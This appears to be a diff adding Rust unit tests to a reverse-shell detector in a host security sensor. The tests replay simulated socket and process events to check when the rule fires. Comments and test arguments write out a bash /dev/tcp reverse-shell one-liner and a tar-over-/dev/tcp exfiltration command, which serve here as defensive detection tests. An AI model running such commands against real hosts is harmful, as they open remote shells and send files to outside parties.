@@ -119,3 +119,69 @@ impl Detector for ReverseShell {
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use sensor_testkit::events::{child, event, exec, fd_dup, process, tcp_socket};
+
+    use crate::detect::replay::raises;
+
+    const ID: &str = "SNS-0001";
+
+    #[test]
+    fn a_shell_with_stdin_and_stdout_on_a_socket() {
+        // bash -i >& /dev/tcp/H/P 0>&1
+        let bash = process(3700, "/usr/bin/bash", &["bash", "-i"]);
+        assert!(raises(
+            ID,
+            vec![
+                fd_dup(&bash, 3, 1, Some(tcp_socket(4444))),
+                fd_dup(&bash, 3, 2, Some(tcp_socket(4444))),
+                fd_dup(&bash, 3, 0, Some(tcp_socket(4444))),
+            ]
+        ));
+        // A compiled dropper dup2s the socket (not a shell: no detection yet), then a
+        // child inherits its stdio and becomes one.
+        let dropper = process(3710, "/tmp/.x/connect", &["connect"]);
+        let stdio = vec![
+            fd_dup(&dropper, 3, 0, Some(tcp_socket(4444))),
+            fd_dup(&dropper, 3, 1, Some(tcp_socket(4444))),
+        ];
+        assert!(!raises(ID, stdio.clone()));
+        let sh = child(&dropper, 3711, "/bin/sh", &["sh", "-i"]);
+        let mut forked = sh.clone();
+        forked.exe = dropper.exe.clone();
+        let mut all = stdio;
+        all.extend([event("process_fork", &forked), exec(&sh)]);
+        assert!(raises(ID, all));
+    }
+
+    #[test]
+    fn output_only_to_a_socket_or_a_local_pipe_is_quiet() {
+        // A command that sends its output over the network, its stdin untouched.
+        let bash = process(
+            3720,
+            "/usr/bin/bash",
+            &["bash", "-c", "tar c . >/dev/tcp/h/p"],
+        );
+        assert!(!raises(
+            ID,
+            vec![fd_dup(&bash, 3, 1, Some(tcp_socket(9000)))]
+        ));
+        // A shell's stdio on a pipe (no socket): ordinary redirection.
+        let sh = process(3721, "/bin/sh", &["sh"]);
+        assert!(!raises(
+            ID,
+            vec![fd_dup(&sh, 3, 0, None), fd_dup(&sh, 4, 1, None)]
+        ));
+        // A program that is not a shell serving a connection on its stdio (inetd style).
+        let daemon = process(3722, "/usr/sbin/in.tftpd", &[]);
+        assert!(!raises(
+            ID,
+            vec![
+                fd_dup(&daemon, 3, 0, Some(tcp_socket(69))),
+                fd_dup(&daemon, 3, 1, Some(tcp_socket(69))),
+            ]
+        ));
+    }
+}
